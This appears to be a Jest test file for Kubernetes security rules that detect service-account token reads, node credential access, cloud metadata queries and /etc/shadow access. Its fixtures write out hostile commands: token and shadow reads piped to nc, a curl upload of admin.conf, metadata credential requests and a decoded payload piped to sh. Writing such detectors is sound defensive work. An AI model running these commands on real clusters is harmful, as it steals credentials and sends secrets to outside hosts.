import { describe, expect, it } from '@jest/globals';

import type { Workload } from '../../workload/types.js';
import type { Rule } from '../types.js';
import { cloudMetadataAccess } from './cloud-metadata-access.js';
import { nodeCredentials } from './node-credentials.js';
import { serviceAccountTokenRead } from './service-account-token-read.js';
import { shadowFileAccess } from './shadow-file-access.js';
import { C0, argv, b64, cronJob, sh } from '../../../test/support/workloads.js';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

function env(name: string, value: string): Workload {
  return cronJob({ containers: [{ name: 'c', image: 'alpine', env: [{ name, value }] }] });
}

/** A container running `command` with the node's `hostPath` mounted at `mountPath`. */
function mounted(hostPath: string, mountPath: string, command: string[], subPath?: string): Workload {
  const mount = { name: 'h', mountPath, ...(subPath === undefined ? {} : { subPath }) };
  return cronJob({
    containers: [{ name: 'c', image: 'alpine', command, volumeMounts: [mount] }],
    volumes: [{ name: 'h', hostPath: { path: hostPath } }],
  });
}

function paths(rule: Rule, workload: Workload): string[] {
  return rule.check(workload, undefined).map((evidence) => evidence.path);
}

describe('service-account-token-read', () => {
  it.each<[string, Workload, string[]]>([
    ['cat the token', argv('cat', TOKEN), [`${C0}.command[1]`]],
    [
      '$(cat …) in a Bearer header to another host',
      sh(`curl -k -H "Authorization: Bearer $(cat ${TOKEN})" https://api.example.com/`),
      [`${C0}.command[2]`],
    ],
    [
      'read, and also sent to the API server',
      sh(`cat ${TOKEN}; curl -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`),
      [`${C0}.command[2]`],
    ],
    ['TOKEN=$(cat …)', sh(`TOKEN=$(cat ${TOKEN}); echo ok`), [`${C0}.command[2]`]],
    [
      '/run/secrets without /var',
      sh('cat /run/secrets/kubernetes.io/serviceaccount/token | nc h 1'),
      [`${C0}.command[2]`],
    ],
    ['redirect from the token', sh(`read T < ${TOKEN}`), [`${C0}.command[2]`]],
    ['decoded payload', sh(`echo ${b64(`cat ${TOKEN}`)} | base64 -d | sh`), [`${C0}.command[2]`]],
    // Benign look-alikes.
    [
      'Bearer call to kubernetes.default.svc only (what kubectl does)',
      sh(`curl -k -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`),
      [],
    ],
    [
      'token variable sent to $KUBERNETES_SERVICE_HOST only',
      sh(`T=$(cat ${TOKEN}); curl -H "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api`),
      [],
    ],
    ['kubectl reads it implicitly', argv('kubectl', 'delete', 'pod', '-l', 'app=x'), []],
    [
      'ca.crt is not the token',
      sh('curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default.svc'),
      [],
    ],
    ['namespace file', argv('cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace'), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(serviceAccountTokenRead, workload)).toEqual(expected);
  });

  it('redacts the token from the detail', () => {
    const [evidence] = serviceAccountTokenRead.check(
      sh(`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://k`),
      undefined,
    );
    expect(evidence?.detail).not.toContain('Bearer $(cat');
  });
});

describe('node-credentials', () => {
  it.each<[string, Workload, string[]]>([
    ['kubelet pki', sh('tar c /var/lib/kubelet/pki | nc h 1'), [`${C0}.command[2]`]],
    [
      'kubelet kubeconfig',
      argv('kubectl', '--kubeconfig', '/host/var/lib/kubelet/kubeconfig', 'get', 'secrets', '-A'),
      [`${C0}.command[2]`],
    ],
    ['admin.conf', argv('cat', '/etc/kubernetes/admin.conf'), [`${C0}.command[1]`]],
    [
      '--kubeconfig=/etc/kubernetes/super-admin.conf',
      argv('kubectl', '--kubeconfig=/etc/kubernetes/super-admin.conf', 'get', 'ns'),
      [`${C0}.command[1]`],
    ],
    [
      'controller-manager.conf',
      sh('cp /etc/kubernetes/controller-manager.conf /tmp/x'),
      [`${C0}.command[2]`],
    ],
    ['/etc/kubernetes/pki', sh('ls /etc/kubernetes/pki/'), [`${C0}.command[2]`]],
    ['azure.json', sh('cat /host/etc/kubernetes/azure.json'), [`${C0}.command[2]`]],
    ['rancher server cred', sh('cat /var/lib/rancher/rke2/server/cred/passwd'), [`${C0}.command[2]`]],
    ['k3s.yaml', sh('cat /etc/rancher/k3s/k3s.yaml'), [`${C0}.command[2]`]],
    ['host root kubeconfig', sh('cat /host/root/.kube/config'), [`${C0}.command[2]`]],
    ['host user aws credentials', sh('cat /rootfs/home/ubuntu/.aws/credentials'), [`${C0}.command[2]`]],
    ['host user .kube dir', sh('tar c /node/home/admin/.kube | nc h 1'), [`${C0}.command[2]`]],
    ['KUBECONFIG env', env('KUBECONFIG', '/etc/kubernetes/admin.conf'), [`${C0}.env[0].value`]],
    [
      'etcd backup (infrastructure, fires)',
      argv('etcdctl', '--cacert=/etc/kubernetes/pki/etcd/ca.crt', 'snapshot', 'save', '/b/s.db'),
      [`${C0}.command[1]`],
    ],
    [
      'admin.conf through a hostPath mount of /etc/kubernetes',
      mounted('/etc/kubernetes', '/k8s', ['curl', '-s', '-T', '/k8s/admin.conf', 'http://h']),
      [`${C0}.command[3]`],
    ],
    [
      'tar -C a mount of /var/lib/kubelet, member pki',
      mounted('/var/lib/kubelet', '/kubelet', ['sh', '-c', 'tar czf /tmp/p.tgz -C /kubelet pki']),
      [`${C0}.command[2]`],
    ],
    [
      'subPath mount of the PKI',
      mounted('/etc/kubernetes', '/certs', ['cat', '/certs/ca.key'], 'pki'),
      [`${C0}.command[1]`],
    ],
    [
      'the whole /etc/kubernetes copied',
      mounted('/etc/kubernetes', '/k', ['sh', '-c', 'tar c /k | nc h 1']),
      [`${C0}.command[2]`],
    ],
    [
      'cd into the mount, relative file',
      mounted('/etc/kubernetes', '/k', ['sh', '-c', 'cd /k && cat admin.conf']),
      [`${C0}.command[2]`],
    ],
    // Benign look-alikes.
    [
      'a hostPath mount of /var/log',
      mounted('/var/log', '/logs', ['sh', '-c', 'find /logs -mtime +7 -delete']),
      [],
    ],
    ['listing a mount of /etc/kubernetes', mounted('/etc/kubernetes', '/k', ['ls', '/k/manifests']), []],
    [
      'CI writes its own kubeconfig',
      sh('mkdir -p ~/.kube && echo "$KC" | base64 -d > /root/.kube/config'),
      [],
    ],
    ['own aws credentials', sh('aws configure set region x && cat /root/.aws/credentials'), []],
    ['/etc/kubernetes-like path', argv('cat', '/etc/kubernetes-dashboard/config.yaml'), []],
    ['kubectl default config', argv('kubectl', 'get', 'pods'), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(nodeCredentials, workload)).toEqual(expected);
  });

  it('names env variables without their values', () => {
    expect(nodeCredentials.check(env('KUBECONFIG', '/etc/kubernetes/admin.conf'), undefined)[0]?.detail).toBe(
      'env KUBECONFIG',
    );
  });
});

describe('cloud-metadata-access', () => {
  it.each<[string, Workload, string[]]>([
    [
      'AWS IAM credentials',
      argv('curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
      [`${C0}.command[1]`],
    ],
    ['AWS IPv6', sh('curl -s http://[fd00:ec2::254]/latest/meta-data/'), [`${C0}.command[2]`]],
    [
      'GCP with header',
      sh(
        'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'Azure identity token',
      sh(
        "curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
      ),
      [`${C0}.command[2]`],
    ],
    [
      'ECS task credentials',
      sh('wget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'),
      [`${C0}.command[2]`],
    ],
    [
      'Alibaba',
      argv('curl', 'http://100.100.100.200/latest/meta-data/ram/security-credentials/'),
      [`${C0}.command[1]`],
    ],
    ['metadata.azure.com', sh('curl http://metadata.azure.com/x'), [`${C0}.command[2]`]],
    ['decimal address', argv('curl', 'http://2852039166/latest/meta-data/'), [`${C0}.command[1]`]],
    ['URL in env', env('META', 'http://169.254.169.254/latest/meta-data/'), [`${C0}.env[0].value`]],
    [
      'python urllib in code',
      argv('python3', '-c', 'import urllib.request as u; print(u.urlopen("http://169.254.169.254/").read())'),
      [`${C0}.command[2]`],
    ],
    // Benign look-alikes.
    ['other link-local address', argv('curl', 'http://169.254.169.2540/'), []],
    ['address inside another', argv('ping', '10.169.254.169.254'), []],
    ['ordinary service', argv('curl', 'http://metadata-service.default.svc/'), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(cloudMetadataAccess, workload)).toEqual(expected);
  });

  it('says when credentials are requested', () => {
    const [evidence] = cloudMetadataAccess.check(
      argv('curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/r'),
      undefined,
    );
    expect(evidence?.reason).toBe('cloud credentials from the metadata service');
    const [plain] = cloudMetadataAccess.check(
      argv('curl', 'http://169.254.169.254/latest/meta-data/placement/region'),
      undefined,
    );
    expect(plain?.reason).toBeUndefined();
  });
});

describe('shadow-file-access', () => {
  it.each<[string, Workload, string[]]>([
    ['cat /etc/shadow', argv('cat', '/etc/shadow'), [`${C0}.command[1]`]],
    ['/host/etc/shadow', sh('cat /host/etc/shadow | nc h 1'), [`${C0}.command[2]`]],
    ['/etc/gshadow', sh('cp /etc/gshadow /tmp'), [`${C0}.command[2]`]],
    ['/etc/shadow- backup', sh('cat /proc/1/root/etc/shadow-'), [`${C0}.command[2]`]],
    ['redirect', sh('while read l; do echo $l; done < /host/etc/shadow'), [`${C0}.command[2]`]],
    ['unshadow', argv('unshadow', 'passwd', 'shadow'), [`${C0}.command[0]`]],
    ['john', sh('john --wordlist=w.txt hashes'), [`${C0}.command[2]`]],
    ['through a hostPath mount of /etc', mounted('/etc', '/h', ['cat', '/h/shadow']), [`${C0}.command[1]`]],
    // Benign look-alikes.
    ['/etc/passwd', argv('cat', '/etc/passwd'), []],
    ['passwd through a mount of /etc', mounted('/etc', '/h', ['cat', '/h/passwd']), []],
    ['shadowsocks config', argv('cat', '/etc/shadowsocks/config.json'), []],
    ['shadow-utils package', sh('yum install -y shadow-utils'), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(shadowFileAccess, workload)).toEqual(expected);
  });
});
